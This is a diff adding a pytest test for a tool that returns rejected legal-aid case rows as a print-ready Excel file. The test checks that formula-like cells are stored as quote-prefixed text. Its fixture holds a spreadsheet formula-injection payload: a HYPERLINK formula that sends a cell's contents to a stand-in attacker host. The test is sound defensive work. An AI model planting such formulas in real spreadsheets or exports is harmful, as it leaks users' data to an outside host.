@@ -92,3 +92,21 @@ def test_unionkpi_ingest_errors_xlsx_writes_the_print_ready_return_file(tmp_path
     assert sheet.print_title_rows == f"${top + 1}:${top + 1}"
     assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.paperSize == 9
     assert sheet.oddFooter.left.text == "退回修改 returned for correction · 法律援助案件"
+
+
+def test_formula_like_cells_come_back_as_text_that_stays_text_when_edited(home, tmp_path):
+    """A rejected row's cells are the district's own text; one that starts
+    like a formula carries Excel's quote prefix, so pressing F2 and Enter on
+    it (as the district fixing the red cells will) keeps it text."""
+    source = tmp_path / "闵行_2026年3月.csv"
+    good = "K-1,闵行,2026-03-02,,劳动报酬,1,0.5,办理中"
+    evil = '=HYPERLINK("http://evil.example/?x="&A1;"click"),闵行,2026-03-03,,劳动报酬,1,0.5,办理中'
+    source.write_text(",".join(LEGAL_AID_HEADER) + "\n" + good + "\n" + evil + "\n", encoding="utf-8")
+    out = tmp_path / "退回.xlsx"
+    assert write_errors_xlsx(ingest(home, source), out) == 1
+    sheet = openpyxl.load_workbook(out).worksheets[0]
+    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
+    formula_like = [cell for cell in cells if cell.value.startswith("=HYPERLINK")]
+    assert formula_like and all(cell.data_type == "s" and cell.quotePrefix for cell in formula_like)
+    assert not any(cell.quotePrefix for cell in cells if not cell.value.startswith(("=", "+", "-", "@")))
+    assert not any(cell.hyperlink for cell in cells)
